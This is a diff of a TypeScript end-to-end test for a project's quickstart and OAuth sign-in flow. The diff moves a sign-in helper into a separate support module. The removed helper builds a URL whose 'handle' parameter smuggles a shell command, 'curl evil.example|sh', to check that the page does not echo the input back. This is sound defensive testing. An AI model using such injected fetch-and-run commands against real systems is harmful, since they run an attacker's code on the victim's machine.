@@ -4,8 +4,6 @@ import net from 'node:net';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { createTestDatabase } from '../../support/database.ts';
-import { TestBrowser } from '../../support/oauth/test-browser.ts';
-import { startSignInBench } from '../oauth/support/sign-in-bench.ts';
 import { makeDataFolder } from './support/data-folder.ts';
 import {
   Program,
@@ -16,6 +14,7 @@ import {
   untilNoneIsLeft,
 } from './support/program.ts';
 import { clientOf, makeSettings } from './support/real-service.ts';
+import { expectSignIn } from './support/sign-in-by-hand.ts';
 
 vi.setConfig({ testTimeout: 300_000, hookTimeout: 300_000 });
 
@@ -77,30 +76,6 @@ async function expectTour(program: Program): Promise<void> {
   expect(program.output).toContain('"Echo: hello"');
   expect(program.output).toMatch(/API documentation {3}http:\S+\/docs/);
   expect(program.output).not.toContain('✗');
-}
-
-/** Signs in to a server as the README says it, with the command that the page in the end shows. */
-async function expectSignIn(url: string, token: string): Promise<void> {
-  const bench = await startSignInBench();
-  try {
-    const client = (await clientOf(url, secrets.JWT_SECRET)).withToken(token);
-    const { id, authorization_url } = (await bench.begin(client)).ok(201);
-    // Only of a host of this name do browsers take the cookie without https.
-    expect(new URL(authorization_url).hostname).toBe('localhost');
-    const hosts = { [new URL(authorization_url).origin]: url };
-    const arrival = await new TestBrowser({ stops: 'nowhere', hosts }).open(authorization_url);
-    const [, path = '', handle = ''] =
-      /curl -s http:\/\/127\.0\.0\.1:\d+(\S+)[\s\S]*"handle":"([\w-]+)"/.exec(arrival.text) ?? [];
-    expect(path).toBe(`/api/oauth/authorizations/${id}/complete`);
-    expect((await bench.complete(client, id, handle)).ok().status).toBe('ENABLED');
-
-    // Of what others put into the address, nothing is repeated.
-    const page = new URL(arrival.url.origin);
-    page.search = `authorization_id=${id}&handle=x';curl evil.example|sh;'`;
-    expect((await fetch(page)).status).toBe(404);
-  } finally {
-    await bench.close();
-  }
 }
 
 /** Whether nobody listens. */
@@ -215,7 +190,8 @@ describe('npm run quickstart', () => {
     expect((await fetch(`${url}/docs/`)).status).toBe(200);
     expect(await isRefused(demoPort)).toBe(false);
     expect(processesWith(folder.path).length).toBeGreaterThan(0);
-    await expectSignIn(url, token);
+    const client = (await clientOf(url, secrets.JWT_SECRET)).withToken(token);
+    await expectSignIn(url, client);
 
     program.killGroup('SIGINT');
 
